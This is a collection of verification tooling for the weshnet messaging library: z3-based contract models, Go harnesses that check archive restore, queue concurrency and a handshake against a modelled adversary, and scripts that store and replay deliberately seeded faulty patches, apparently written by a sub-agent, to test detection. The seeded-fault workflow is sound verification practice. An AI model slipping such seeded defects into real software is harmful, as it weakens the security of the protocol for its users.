        """(struct type, SV) of a proto.Message interface value or pointer"""
        if isinstance(m, Iface):
            t = I.prog.types.get(m.tid)
            p = m.v
        else:
            raise Inconclusive('proto message %r' % (m,))
        st = t.under().elemt()
        return st, p

    def field_term(I, ft, v):
        u = ft.under()
        if u.kind == 'basic':
            if ft.isstring():
                return I.str_term(v)
            if ft.isbool():
                if isinstance(v, bool):
                    return u64term(int(v))
                return T.Term.bits(z3.IntVal(8), z3.If(v, u64term(1).arg(1), u64term(0).arg(1)))
            return u64term(v)
        if u.kind == 'slice':
            if u.elemt().isint() and u.elemt().intinfo()[0] == 8:
                return I.bytes_term(v)
            els = v.elems() if v is not None else []
            return T.app('list', *[field_term(I, u.elemt(), e) for e in els])
        if u.kind == 'pointer':
            if v is None:
                return T.app('nilmsg')
            return T.app('submsg', marshal_struct(I, u.elemt(), v.load()))
        if u.kind == 'map':
            if v is None or not v.items:
                return T.app('list')
            raise Inconclusive('marshal of non-empty map field')
        raise Inconclusive('marshal of field type ' + ft.str)

    def marshal_struct(I, st, sv):
        parts = []
        for i, f in enumerate(st.under().fields):
            if f['name'] in SKIP_FIELDS:
                continue
            parts.append(field_term(I, I.prog.types[f['t']], sv[i]))
        # the encoding of a message whose fields are all zero/empty is the empty string
        empty = T.lit_bytes(b'')
        zero64 = u64term(0)
        if all(p.eq(empty) or p.eq(zero64) or T.app_name(p) in ('nilmsg',) or (T.app_name(p) == 'list' and not T.is_app(p)) for p in parts):
            return empty
        t = T.app('pb:' + st.str.rsplit('.', 1)[-1], *parts)
        # length facts: at least the bytes of every field; non-empty as soon as one field is non-empty
        total = 0
        nonempty = []
        for p in parts:
            if p.sort() == T.Term and z3.is_app(p) and p.decl().name() in ('bits',) and z3.is_int_value(p.arg(0)) and p.arg(0).as_long() == 8 and not T.concrete_bytes(p):
                nonempty.append(p != zero64)
                continue
            cb = T.concrete_bytes(p)
            if cb is not None:
                if len(cb) == 8 and p.eq(zero64):
                    continue
                total = total + (len(cb) if len(cb) else 0)
                if len(cb):
                    nonempty.append(z3.BoolVal(True))
                continue
            if T.app_name(p) == 'nilmsg':
                continue
            if T.app_name(p) == 'submsg':
                nonempty.append(z3.BoolVal(True))
                continue
            total = total + T.blen(p)
            nonempty.append(T.blen(p) > 0)
        I.add(T.blen(t) >= total)
        if nonempty:
            I.add(z3.Implies(z3.Or(*nonempty), T.blen(t) > 0))
        return t

    I.marshal_struct = lambda st, sv: marshal_struct(I, st, sv)

    def marshal(I, args, ins):
        m = args[0]
        if m is None or m.v is None:
            return (None, mk_error(I, 'proto: Marshal called with nil'))
        st, p = msg_struct(I, m)
        return (I.bytes_value(marshal_struct(I, st, p.load())), None)

    def field_value(I, ft, t, depth, name):
        """Go value of a field from its term"""
        u = ft.under()
        if u.kind == 'basic':
            if ft.isstring():
                cb = T.concrete_bytes(t)
                return cb.decode('latin-1') if cb is not None else SymStr(t)
            bits_, signed = (1, False) if ft.isbool() else ft.intinfo()
            cb = T.concrete_bytes(t)
            if cb is not None and len(cb) == 8:
                v = int.from_bytes(cb, 'big')
                if ft.isbool():
                    return v != 0
                from ..interp import norm
                return norm(v, bits_, signed)
            bv = z3.simplify(u64_of_term(t))
            if ft.isbool():
                return simp_bool(bv != 0)
            if bits_ < 64:
                bv = z3.simplify(z3.Extract(bits_ - 1, 0, bv))
            return bv
        if u.kind == 'slice' and u.elemt().isint() and u.elemt().intinfo()[0] == 8:
            n = I.blen_of(t)
            if isinstance(n, int):
                return None if n == 0 else TermBytes(t)
            # proto3: empty bytes come back as nil
            if I.fork_bool(simp_bool(n == 0), 'pb-empty-bytes:' + name):
                return None
            return TermBytes(t)
        if u.kind == 'pointer':
            a = T.is_app(t, 'nilmsg')
            if a is not None:
                return None
            w = T.is_app(t, 'submsg')
            if w is not None:
                inner = w[0]
                st = u.elemt()
                sv = I.zero(st)
                sub = T.is_app(inner)
                if sub is not None:
                    fill_struct(I, st, sv, sub, depth + 1)
                    return Ptr([sv], 0)
                cb = T.concrete_bytes(inner)
                if cb is not None and len(cb) == 0:
                    return Ptr([sv], 0)
            raise Inconclusive('unmarshal of symbolic nested message')
        if u.kind == 'slice':
            a = T.is_app(t, 'list')
            if a is not None:
                els = [field_value(I, u.elemt(), x, depth + 1, name) for x in a]
                return SliceVal(AV(els), 0, len(els), len(els)) if els else None
            raise Inconclusive('unmarshal of symbolic repeated field')
        if u.kind == 'map':
            return None
        raise Inconclusive('unmarshal of field type ' + ft.str)

    def fill_struct(I, st, sv, parts, depth=0):
        k = 0
        for i, f in enumerate(st.under().fields):
            if f['name'] in SKIP_FIELDS:
                continue
            sv[i] = field_value(I, I.prog.types[f['t']], parts[k], depth, f['name'])
            k += 1

    def fresh_parts(I, st, base):
        parts = []
        for i, f in enumerate(st.under().fields):
            if f['name'] in SKIP_FIELDS:
                continue
            ft = I.prog.types[f['t']]
            u = ft.under()
            nm = '%s.%s' % (base, f['name'])
            if u.kind == 'basic' and not ft.isstring():
                bits_ = 1 if ft.isbool() else ft.intinfo()[0]
                bv = I.fresh_bv(nm, 64)
                if bits_ < 64:
                    I.add(z3.Extract(63, bits_, bv) == 0) if bits_ > 1 else I.add(z3.ULE(bv, 1))
                I.register_input(nm, bv)
                parts.append(T.Term.bits(z3.IntVal(8), z3.Concat(bv, z3.BitVecVal(0, T.BW - 64))))
            elif u.kind == 'pointer':
                parts.append(T.app('nilmsg'))
            elif u.kind == 'map' or (u.kind == 'slice' and not (u.elemt().isint() and u.elemt().intinfo()[0] == 8)):
                parts.append(T.app('list'))
            else:
                t = I.fresh_term(nm)
                I.register_input(nm, t)
                parts.append(t)
        return parts

    def unmarshal(I, args, ins):
        b, m = args
        st, p = msg_struct(I, m)
        bt = I.bytes_term(b)
        name = 'pb:' + st.str.rsplit('.', 1)[-1]
        sv = p.load()
        a = T.is_app(bt)
        if a is not None and T.app_name(bt) == name:
            fill_struct(I, st, sv, a)
            return None
        cb = T.concrete_bytes(bt)
        if cb is not None and len(cb) == 0:
            # the empty encoding is the zero message of every type
            z = I.zero(st)
            for i in range(len(sv)):
                sv[i] = z[i]
            return None
        if a is not None or cb is not None:
            # structurally some other constructor: does not parse as this type (typed model of the wire format)
            return mk_error(I, 'proto: cannot parse invalid wire-format data')
        # free bytes: parses iff it equals pb:T(fields) for some field values
        parts = fresh_parts(I, st, 'unm%d' % I.path.fresh)
        cand = T.app(name, *parts)
        okf = simp_bool(bt == cand)
        if not I.fork_bool(okf, 'proto.Unmarshal'):
            form, _ = is_form(bt, name, len(parts))
            I.add(z3.Not(form))
            return mk_error(I, 'proto: cannot parse invalid wire-format data')
        fill_struct(I, st, sv, parts)
        return None

    PB = 'google.golang.org/protobuf/proto.'
    C[PB + 'Marshal'] = marshal
    C[PB + 'Unmarshal'] = unmarshal
    C[PB + 'Size'] = lambda I, a, ins: 0

    def any_group(I, args, ins):
        raise Inconclusive('verif_anyGroup not installed')
