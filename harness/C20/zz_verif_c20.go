package weshnet

import (
	"io"

	coreiface "github.com/ipfs/kubo/core/coreiface"
	"github.com/libp2p/go-libp2p/core/crypto"
	"go.uber.org/zap"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// The archive is a contract object: a list of tar members (name, body). verif_archiveAdd appends a member:
// kind 0 "account.key", 1 "account_proof.key", 2 "entries/<name>", 3 "heads/<name>", 4 an unknown name.
func verif_archive() io.Reader                                  { panic("intrinsic") }
func verif_archiveAdd(a io.Reader, kind int, name, body []byte) { panic("intrinsic") }
func verif_coreAPI() coreiface.CoreAPI                          { panic("intrinsic") }
func verif_cidNameOf(body []byte) []byte                        { panic("intrinsic") } // the CID string a CBOR node with these bytes has
func verif_dagHas(api coreiface.CoreAPI, body []byte) bool      { panic("intrinsic") }
func verif_dagCount(api coreiface.CoreAPI) int                  { panic("intrinsic") }

// VerifC20Restore: an archive of n members whose kinds, names and bodies are FREE (so order, duplication, omission and
// corruption are all covered) is restored into a store that has / has not an account. If the restore is accepted then
// it contained exactly one file of each key, the keys imported are those files, every entry member's bytes hash to the
// identifier in its name and reached the DAG unchanged, and the target store held no account before.
func VerifC20Restore(n, dstHasAccount int) {
	ctx := verif_background()
	src := verifSecretStore("src")
	ak, pk, err := src.ExportAccountKeysForBackup()
	verif_assume(err == nil)
	dst := verifSecretStore("dst")
	// the keys of a store are created lazily and independently: "already holds an account" = holds the account key (1),
	// only the proof key -- e.g. after a multi-member group was used (2) --, or both (3)
	if dstHasAccount == 1 || dstHasAccount == 3 {
		_, err := dst.GetAccountPrivateKey()
		verif_assume(err == nil)
	}
	if dstHasAccount == 2 || dstHasAccount == 3 {
		g, _, err := protocoltypes.NewGroupMultiMember()
		verif_assume(err == nil)
		_, err = dst.GetOwnMemberDeviceForGroup(g)
		verif_assume(err == nil)
	}
	odb := &WeshOrbitDB{secretStore: dst}
	api := verif_coreAPI()
	ar := verif_archive()
	nKey, nProof, nEntries := 0, 0, 0
	var keyBody, proofBody []byte
	var entryNames, entryBodies [][]byte
	for i := 0; i < n; i++ {
		kind := verif_anyInt("kind")
		verif_assume(kind >= 0 && kind <= 4)
		name := verif_anyBytesNonNil("name")
		var body []byte
		switch kind {
		case 0:
			nKey++
			body = ak
			if verif_anyBool("corrupt-key") {
				body = verif_anyBytes("keybytes")
			}
			keyBody = body
		case 1:
			nProof++
			body = pk
			if verif_anyBool("corrupt-proof") {
				body = verif_anyBytes("proofbytes")
			}
			proofBody = body
		case 2:
			nEntries++
			body = verif_anyBytes("entry")
			entryNames = append(entryNames, name)
			entryBodies = append(entryBodies, body)
		default:
			body = verif_anyBytes("other")
		}
		verif_archiveAdd(ar, kind, name, body)
	}
	err = RestoreAccountExport(ctx, ar, api, odb, zap.NewNop())
	if err != nil {
		return
	}
	verif_reach("C20.restore.accepted")
	verif_assert(dstHasAccount == 0, "C20: restoring onto a store that already holds an account is rejected")
	verif_assert(nKey == 1 && nProof == 1, "C20: an archive with a missing or duplicated key file is rejected")
	if nKey != 1 || nProof != 1 {
		return
	}
	ak2, pk2, err := dst.ExportAccountKeysForBackup()
	verif_assert(err == nil, "C20: the restored keys can be read back")
	if err == nil {
		// compared as KEYS, not as bytes: a private key has more than one accepted encoding
		ka, ea := crypto.UnmarshalPrivateKey(ak2)
		wa, ewa := crypto.UnmarshalPrivateKey(keyBody)
		kp, ep := crypto.UnmarshalPrivateKey(pk2)
		wp, ewp := crypto.UnmarshalPrivateKey(proofBody)
		verif_assert(ea == nil && ewa == nil && ep == nil && ewp == nil && ka.Equals(wa) && kp.Equals(wp), "C20: the restored identity is the one in the archive's key files")
	}
	for i := range entryBodies {
		verif_assert(verif_bytesEq(entryNames[i], verif_cidNameOf(entryBodies[i])), "C20: an entry whose bytes do not match its identifier is rejected")
		verif_assert(verif_dagHas(api, entryBodies[i]), "C20: every accepted entry reaches the DAG byte-for-byte")
	}
	verif_assert(verif_dagCount(api) == nEntries, "C20: nothing else is added to the DAG")
}

func VerifC20Witness() {
	VerifC20Restore(2, 0)
	verif_assert(false, "C20.witness: reachable")
}
