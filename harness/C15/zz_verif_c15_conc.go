package queue

import (
	"context"
)

func verif_go(name string, f func())          { panic("intrinsic") }
func verif_runThreads()                        { panic("intrinsic") }
func verif_sharedCtx() context.Context         { panic("intrinsic") }
func verif_cancel(ctx context.Context)         { panic("intrinsic") }
func verif_freeze(p any)                       { panic("intrinsic") }

// VerifC15Concurrent: `producers` goroutines each add `per` items, one consumer waits for all of them, optionally a
// canceller cancels the consumer's context. The goroutine bodies are the real Add / WaitForItem; the schedule is a solver
// variable (DESIGN section 4). Checked: no reachable stuck state (a consumer parked while the queue is non-empty is one),
// items arrive in per-producer insertion order exactly once, a wait that returns "no item" happens only after cancellation.
func VerifC15Concurrent(producers, per, withCancel int) {
	q := NewSimpleQueue[int]("t", &noopTracer[int]{})
	var ctx context.Context
	if withCancel == 1 {
		ctx = verif_sharedCtx()
	} else {
		ctx = verif_ctx(false)
	}
	total := producers * per
	// harness parameters captured by the goroutine closures are immutable while they run (a write is reported)
	verif_freeze(&per)
	verif_freeze(&total)
	verif_freeze(&withCancel)
	verif_freeze(&ctx)
	verif_freeze(&q)
	for p := 0; p < producers; p++ {
		base := p * 100
		verif_freeze(&base)
		verif_go("producer", func() {
			for i := 1; i <= per; i++ {
				q.Add(base + i)
			}
		})
	}
	verif_go("consumer", func() {
		var last [2]int
		for n := 0; n < total; n++ {
			it, ok := q.WaitForItem(ctx)
			if !ok {
				verif_assert(withCancel == 1, "C15.conc: a wait returns 'no item' only after cancellation")
				return
			}
			pr, seq := 0, it
			if it > 100 {
				pr, seq = 1, it-100
			}
			verif_assert(seq == last[pr]+1, "C15.conc: items of a producer arrive in insertion order, each exactly once")
			last[pr] = seq
		}
	})
	if withCancel == 1 {
		verif_go("canceller", func() { verif_cancel(ctx) })
	}
	verif_runThreads()
	verif_reach("C15.conc.ok")
}
