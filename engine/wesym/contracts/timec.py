"""Clock contract (DESIGN section 5): time.Time = (seconds, nanoseconds) over mathematical integers,
time.Now() = next element of a free non-decreasing sequence; time.AfterFunc records the timer."""
import z3
from ..values import *
from ..interp import simp_bool, is_intmode, zand
from .. import terms as T
from .base import gostr

NS = 1000000000
MAXSEC = 1 << 33  # instants in [0, 2^33) s so that differences fit a Duration without saturation


def iv(x):
    return z3.IntVal(x) if isinstance(x, int) else x


def simp(x):
    if isinstance(x, int):
        return x
    x = z3.simplify(x)
    return x.as_long() if z3.is_int_value(x) else x


def mk_time(I, sec, nsec, ins=None, tid=None):
    t = I.prog.type_by_str('time.Time')
    return SV([nsec, sec, None], t.id if t else 0)


def tsec(t):
    return t[1]


def tnsec(t):
    return t[0]


def install(I):
    def now(I, args, ins):
        g = I.path.ghost
        clock = g.setdefault('clock', [])
        k = len(clock)
        s = I.fresh_int('now%d.sec' % k)
        n = I.fresh_int('now%d.nsec' % k)
        I.register_input('now%d.sec' % k, s)
        I.register_input('now%d.nsec' % k, n)
        I.add(z3.And(s >= 0, s < MAXSEC, n >= 0, n < NS))
        if clock:
            ps, pn = clock[-1]
            I.add(z3.Or(s > ps, z3.And(s == ps, n >= pn)))
        clock.append((s, n))
        return mk_time(I, s, n)

    def t_unix(I, args, ins):
        return tsec(args[0])

    def unix(I, args, ins):
        sec, nsec = args
        if not (isinstance(nsec, int) and nsec == 0):
            raise Inconclusive('time.Unix with non-zero nsec')
        return mk_time(I, sec, 0)

    def t_in(I, args, ins):
        return args[0]

    def t_location(I, args, ins):
        return None

    def t_add(I, args, ins):
        t, d = args
        tot = iv(tnsec(t)) + iv(d)
        sec = simp(iv(tsec(t)) + tot / NS)
        nsec = simp(tot % NS)
        return mk_time(I, sec, nsec)

    def dur(I, a, b):
        d = (iv(tsec(a)) - iv(tsec(b))) * NS + (iv(tnsec(a)) - iv(tnsec(b)))
        d = simp(d)
        if not isinstance(d, int):
            lim = (1 << 63) - 1
            if not I.implied(z3.And(d >= -lim, d <= lim)):
                raise Inconclusive('duration may saturate (outside the stated instant range)')
        return d

    def until(I, args, ins):
        n = now(I, [], ins)
        return dur(I, args[0], n)

    def since(I, args, ins):
        n = now(I, [], ins)
        return dur(I, n, args[0])

    def t_sub(I, args, ins):
        return dur(I, args[0], args[1])

    def t_after(I, args, ins):
        a, b = args
        return simp_bool(z3.Or(iv(tsec(a)) > iv(tsec(b)), z3.And(iv(tsec(a)) == iv(tsec(b)), iv(tnsec(a)) > iv(tnsec(b)))))

    def t_before(I, args, ins):
        return t_after(I, [args[1], args[0]], ins)

    def t_equal(I, args, ins):
        a, b = args
        return simp_bool(z3.And(iv(tsec(a)) == iv(tsec(b)), iv(tnsec(a)) == iv(tnsec(b))))

    def d_seconds(I, args, ins):
        d = args[0]
        if isinstance(d, int):
            return d / 1e9
        return Native('floatsec', ns=d)

    def float2int(I, args, ins):
        x = args[0]
        if isinstance(x, Native) and x.kind == 'floatsec':
            # exact for whole-second durations (assumed by the harness); truncation toward zero
            ns = x.ns
            if not I.implied(ns % NS == 0):
                raise Inconclusive('Duration.Seconds() of a non-whole-second duration: float rounding is outside the model')
            return simp(z3.If(ns >= 0, ns / NS, -((-ns) / NS)))
        raise Inconclusive('float -> int of %r' % (x,))

    def afterfunc(I, args, ins):
        d, f = args
        g = I.path.ghost
        clock = g.get('clock', [])
        at = clock[-1] if clock else (0, 0)
        g.setdefault('timers', []).append({'delay': d, 'f': f, 'at': at, 'fired': False})
        return None

    I.contracts['time.Now'] = now
    I.contracts['(time.Time).Unix'] = t_unix
    I.contracts['(time.Time).UnixNano'] = lambda I, a, ins: simp(iv(tsec(a[0])) * NS + iv(tnsec(a[0])))
    I.contracts['time.Unix'] = unix
    I.contracts['(time.Time).In'] = t_in
    I.contracts['(time.Time).UTC'] = t_in
    I.contracts['(time.Time).Location'] = t_location
    I.contracts['(time.Time).Add'] = t_add
    I.contracts['(time.Time).Sub'] = t_sub
    I.contracts['(time.Time).After'] = t_after
    I.contracts['(time.Time).Before'] = t_before
    I.contracts['(time.Time).Equal'] = t_equal
    I.contracts['time.Until'] = until
    I.contracts['time.Since'] = since
    I.contracts['(time.Duration).Seconds'] = d_seconds
    I.contracts['convert.float2int'] = float2int
    I.contracts['time.AfterFunc'] = afterfunc

    # harness intrinsics
    def any_time(I, args, ins):
        name = gostr(args[0])
        s = I.fresh_int(name + '.sec')
        n = I.fresh_int(name + '.nsec')
        I.register_input(name + '.sec', s)
        I.register_input(name + '.nsec', n)
        I.add(z3.And(s >= 0, s < MAXSEC, n >= 0, n < NS))
        return mk_time(I, s, n)

    def any_interval(I, args, ins):
        """whole-second interval, 1 s <= |I| <= 2^31 s, sign free"""
        name = gostr(args[0])
        k = I.fresh_int(name + '.seconds')
        I.register_input(name + '.seconds', k)
        I.add(z3.Or(z3.And(k >= 1, k <= (1 << 31)), z3.And(k <= -1, k >= -(1 << 31))))
        return simp(k * NS)

    def fire_timers(I, args, ins):
        """run every pending time.AfterFunc callback (the harness decides when)"""
        g = I.path.ghost
        n = 0
        for tm in g.get('timers', []):
            if not tm['fired']:
                tm['fired'] = True
                I.call_value(tm['f'], [], ins)
                n += 1
        return n

    def timer_min_fire_ok(I, args, ins):
        """true iff every pending timer fires no earlier than instant args[0] (its registration reading + delay)"""
        lim = args[0]
        first = args[1] if len(args) > 1 else 0
        g = I.path.ghost
        conds = []
        for tm in g.get('timers', [])[first:]:
            if tm['fired']:
                continue
            s, n = tm['at']
            fire = iv(s) * NS + iv(n) + iv(tm['delay'])
            conds.append(fire >= iv(tsec(lim)) * NS + iv(tnsec(lim)))
        return simp_bool(z3.And(*conds)) if conds else True

    def pending_timers(I, args, ins):
        return len(I.path.ghost.get('timers', []))

    I.intrinsics['verif_anyTime'] = any_time
    I.intrinsics['verif_anyInterval'] = any_interval
    I.intrinsics['verif_fireTimers'] = fire_timers
    I.intrinsics['verif_timersNotBefore'] = timer_min_fire_ok
    I.intrinsics['verif_pendingTimers'] = pending_timers


def install_mac(I):
    """hmac / sha256 / base64 / big-endian uint64 as free constructors (DESIGN 2.3)"""
    def hmac_new(I, args, ins):
        h, key = args
        return Iface(-30, Native('hmac', key=I.bytes_term(key), data=[], as_iface=True))

    def hmac_write(I, args, ins):
        m, p = args
        m.data.append(I.bytes_term(p))
        return (I.len_of(p), None)

    def hmac_sum(I, args, ins):
        m, b = args
        d = T.lit_bytes(b'')
        for x in m.data:
            d = I.mk_cat(d, x)
        t = T.app('hmac', m.key, d)
        I.add(T.blen(t) == 32)
        if b is not None and I.len_of(b) != 0:
            return TermBytes(I.mk_cat(I.bytes_term(b), t))
        return TermBytes(t)

    I.contracts['crypto/hmac.New'] = hmac_new
    I.methods[('hmac', 'Write')] = hmac_write
    I.methods[('hmac', 'Sum')] = hmac_sum

    def b64_encode(I, args, ins):
        src = args[1]
        st = I.bytes_term(src)
        cb = T.concrete_bytes(st)
        if cb is not None:
            import base64
            return base64.b64encode(cb).decode('latin-1')
        t = T.app('b64', st)
        I.add(T.blen(t) >= 0)
        return SymStr(t)

    I.contracts['(*encoding/base64.Encoding).EncodeToString'] = b64_encode

    def put_uint64_be(I, args, ins):
        recv, b, v = args
        if is_intmode(v):
            if I.len_of(b) < 8:
                raise GoPanic('index-out-of-range', 'PutUint64', ins.get('pos', ''))
            t = T.app('u64be', T.Term.num(v))
            I.add(T.blen(t) == 8)
            for i in range(8):
                b.arr[b.off + i] = T.byteAt(t, z3.IntVal(i))
            return None
        fn = I.prog.funcs.get('(encoding/binary.bigEndian).PutUint64')
        return I.call_function(fn, [recv, b, v], [])

    I.contracts['(encoding/binary.bigEndian).PutUint64'] = put_uint64_be
