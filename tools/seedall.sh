#!/bin/sh
# usage: tools/seedall.sh [ids...] -- tries every stored seeded change (seeded/<id>/patch.diff) against its check (quick tier)
# in a scratch worktree; one line per seed: DETECTED (exit 1 + VIOLATION) / MISSED (exit 0) / INCONCLUSIVE (exit 2)
cd /verif
ids=${*:-$(ls seeded)}
for d in $ids; do
  pid=$(echo $d | cut -c1-3); chk=c$(echo $pid | cut -c2-3).py
  out=$(tools/seedwt.sh $d /verif/seeded/$d/patch.diff $chk quick 2>&1)
  if echo "$out" | grep -q "^VIOLATION"; then r=DETECTED; elif echo "$out" | grep -q "exit 0"; then r=MISSED; else r=OTHER; fi
  echo "$d $r :: $(echo "$out" | grep -E "assertion" | head -1 | cut -c1-150) :: $(echo "$out" | grep -E "^C[0-9]+ quick" | cut -c1-120)"
done
