#!/usr/bin/env python3
"""compare a `go test -json` run with BASELINE.json stable_pass"""
import json, sys
base = json.load(open('/root/.vp/BASELINE.json'))
stable = set(base['stable_pass'])
res = {}
for l in open(sys.argv[1]):
    try:
        e = json.loads(l)
    except Exception:
        continue
    if e.get('Test') and e.get('Action') in ('pass', 'fail', 'skip'):
        res['%s::%s' % (e['Package'], e['Test'])] = e['Action']
missing = [t for t in stable if res.get(t) != 'pass']
print('stable_pass', len(stable), 'passed now', sum(1 for t in stable if res.get(t) == 'pass'))
for t in sorted(missing):
    print('NOT PASSING:', t, res.get(t))
