package handshake

import (
	"context"
	"io"

	p2pcrypto "github.com/libp2p/go-libp2p/core/crypto"
	"go.uber.org/zap"
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/cryptoutil"
)

func verif_background() context.Context  { panic("intrinsic") }
func verif_honestKey(k p2pcrypto.PrivKey) { panic("intrinsic") }

// verifPipe is the frame queue between a party and its peer: incoming frames are either scripted (free byte strings
// chosen by the solver = the adversary) or the frames the honest peer wrote.
type verifPipe struct {
	in   [][]byte
	peer *verifPipe
	pos  int
	out  [][]byte
}

func (p *verifPipe) ReadMsg(m proto.Message) error {
	src := p.in
	if p.peer != nil {
		src = p.peer.out
	}
	if p.pos >= len(src) {
		return io.EOF
	}
	b := src[p.pos]
	p.pos++
	return proto.Unmarshal(b, m)
}

func (p *verifPipe) WriteMsg(m proto.Message) error {
	b, err := proto.Marshal(m)
	if err != nil {
		return err
	}
	p.out = append(p.out, b)
	return nil
}

func verifKey() (p2pcrypto.PrivKey, p2pcrypto.PubKey) {
	sk, pk, err := p2pcrypto.GenerateEd25519Key(nil)
	verif_assume(err == nil)
	return sk, pk
}

func verifFrames(n int, name string) [][]byte {
	out := make([][]byte, n)
	for i := range out {
		out[i] = verif_anyBytesNonNil(name)
	}
	return out
}

// VerifC06Honest: two honest parties, the requester targets the responder's real account key: both sides complete
// and the responder learns exactly the requester's account key (step functions run in protocol order).
func VerifC06Honest(wrongTarget int) {
	aSK, aPK := verifKey()
	bSK, bPK := verifKey()
	_, cPK := verifKey()
	rp, bp := &verifPipe{}, &verifPipe{}
	rp.peer, bp.peer = bp, rp
	target := bPK
	if wrongTarget == 1 {
		target = cPK
	}
	r := &handshakeContext{reader: rp, writer: rp, ownAccountID: aSK, peerAccountID: target, sharedEphemeral: &[cryptoutil.KeySize]byte{}}
	b := &handshakeContext{reader: bp, writer: bp, ownAccountID: bSK, sharedEphemeral: &[cryptoutil.KeySize]byte{}}
	verif_assert(r.sendRequesterHello() == nil, "C06.honest: 1 send hello")
	verif_assert(b.receiveRequesterHello() == nil, "C06.honest: 1 recv hello")
	verif_assert(b.sendResponderHello() == nil, "C06.honest: 2 send hello")
	verif_assert(r.receiveResponderHello() == nil, "C06.honest: 2 recv hello")
	verif_assert(r.sendRequesterAuthenticate() == nil, "C06.honest: 3 send authenticate")
	err := b.receiveRequesterAuthenticate()
	if wrongTarget == 1 {
		verif_assert(err != nil, "C06.honest: a requester that targeted another account is not authenticated by this responder")
		return
	}
	verif_assert(err == nil, "C06.honest: 3 recv authenticate")
	if err != nil {
		return
	}
	verif_assert(b.sendResponderAccept() == nil, "C06.honest: 4 send accept")
	verif_assert(r.receiveResponderAccept() == nil, "C06.honest: 4 recv accept")
	verif_assert(r.sendRequesterAcknowledge() == nil, "C06.honest: 5 send ack")
	verif_assert(b.receiveRequesterAcknowledge() == nil, "C06.honest: 5 recv ack")
	verif_assert(b.peerAccountID != nil && b.peerAccountID.Equals(aPK), "C06.honest: the responder learns exactly the requester's account key")
	verif_reach("C06.honest.ok")
}

// VerifC06Responder: honest responder B against an arbitrary peer (every incoming frame is a free byte string).
// Honest account A (EUF-CMA) has taken part in `sessions` recorded requester sessions whose responder hello and target
// account were chosen by the adversary (target: the adversary's own account M when targetB == 0, B when targetB == 1).
// If B reports A then A proved possession in THIS session: A ran a session towards B whose hellos are the ones B saw.
func VerifC06Responder(sessions, targetB int) {
	ctx := verif_background()
	aSK, aPK := verifKey()
	bSK, bPK := verifKey()
	_, mPK := verifKey() // the adversary's own account
	verif_honestKey(aSK)
	verif_honestKey(bSK)
	var aHello [2][]byte
	var aPeerHello [2][]byte
	for s := 0; s < sessions; s++ {
		target := mPK
		if targetB == 1 {
			target = bPK
		}
		p := &verifPipe{in: verifFrames(2, "to-A")}
		_ = RequestUsingReaderWriter(ctx, zap.NewNop(), p, p, aSK, target)
		if len(p.out) > 0 {
			h := HelloPayload{}
			verif_assume(proto.Unmarshal(p.out[0], &h) == nil)
			aHello[s] = h.EphemeralPubKey
		}
		ph := HelloPayload{}
		if proto.Unmarshal(p.in[0], &ph) == nil {
			aPeerHello[s] = ph.EphemeralPubKey
		}
	}
	bp := &verifPipe{in: verifFrames(3, "to-B")}
	pk, err := ResponseUsingReaderWriter(ctx, zap.NewNop(), bp, bp, bSK)
	if err != nil {
		return
	}
	verif_reach("C06.responder.accepted")
	verif_assert(pk != nil, "C06.responder: success reports a key")
	if pk == nil || !pk.Equals(aPK) {
		return
	}
	if targetB == 0 {
		verif_assert(false, "C06.responder: B never reports account A when A has only run sessions towards another account")
		return
	}
	// A targeted B: legitimate only if the adversary relayed THIS session: B's hello reached A and A's hello reached B
	bh := HelloPayload{}
	verif_assume(proto.Unmarshal(bp.out[0], &bh) == nil)
	ah := HelloPayload{}
	verif_assume(proto.Unmarshal(bp.in[0], &ah) == nil)
	ok := false
	for s := 0; s < sessions; s++ {
		if verif_bytesEq(aHello[s], ah.EphemeralPubKey) && verif_bytesEq(aPeerHello[s], bh.EphemeralPubKey) {
			ok = true
		}
	}
	verif_assert(ok, "C06.responder: B reports A only if A ran this very session (its hello reached B and B's hello reached A)")
}

// VerifC06Requester: honest requester A targeting honest account B against an arbitrary peer: success implies that B
// signed the shared secret of a responder session whose received hello is A's.
func VerifC06Requester(sessions int) {
	ctx := verif_background()
	aSK, _ := verifKey()
	bSK, bPK := verifKey()
	verif_honestKey(aSK)
	verif_honestKey(bSK)
	var bSeen [2][]byte
	var bHello [2][]byte
	for s := 0; s < sessions; s++ {
		p := &verifPipe{in: verifFrames(3, "to-B")}
		_, _ = ResponseUsingReaderWriter(ctx, zap.NewNop(), p, p, bSK)
		h := HelloPayload{}
		if proto.Unmarshal(p.in[0], &h) == nil {
			bSeen[s] = h.EphemeralPubKey
		}
		if len(p.out) > 0 {
			oh := HelloPayload{}
			verif_assume(proto.Unmarshal(p.out[0], &oh) == nil)
			bHello[s] = oh.EphemeralPubKey
		}
	}
	ap := &verifPipe{in: verifFrames(2, "to-A")}
	err := RequestUsingReaderWriter(ctx, zap.NewNop(), ap, ap, aSK, bPK)
	if err != nil {
		return
	}
	verif_reach("C06.requester.accepted")
	ah := HelloPayload{}
	verif_assume(proto.Unmarshal(ap.out[0], &ah) == nil)
	ph := HelloPayload{}
	verif_assume(proto.Unmarshal(ap.in[0], &ph) == nil)
	ok := false
	for s := 0; s < sessions; s++ {
		if verif_bytesEq(bSeen[s], ah.EphemeralPubKey) && verif_bytesEq(bHello[s], ph.EphemeralPubKey) {
			ok = true
		}
	}
	verif_assert(ok, "C06.requester: success only if the holder of B's key answered this very session")
}

func VerifC06Witness() {
	VerifC06Honest(0)
	verif_assert(false, "C06.witness: reachable")
}
