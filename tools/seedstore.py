#!/usr/bin/env python3
"""usage: tools/seedstore.py <id> <n> <detected: yes|no|after-strengthening> "<check result line>" "<what I ran>"
copies /tmp/seedout_<id>_<n>/ into /verif/seeded/<id>[-n]/ and writes meta.json in the documented shape"""
import sys, os, json, shutil, glob
pid, n, detected, result, ran = sys.argv[1:6]
src = "/tmp/seedout_%s_%s" % (pid, n)
dst = '/verif/seeded/%s' % pid + ('' if n == '1' else '-' + n)
os.makedirs(dst, exist_ok=True)
shutil.copy(src + '/patch.diff', dst + '/patch.diff')
demos = []
for f in glob.glob(src + '/*_test.go'):
    # keep demonstrations out of `go build ./...` of any tree that contains /verif: stored with a .txt suffix
    shutil.copy(f, dst + '/' + os.path.basename(f) + '.txt')
    demos.append(os.path.basename(f))
m = json.load(open(src + '/meta.json'))
meta = {
    'property': pid,
    'origin': 'written by a sub-agent that was given only the property text and its own scratch worktree of /repo',
    'summary': m.get('summary'),
    'needs_to_manifest': m.get('needs'),
    'files_changed': m.get('files_changed'),
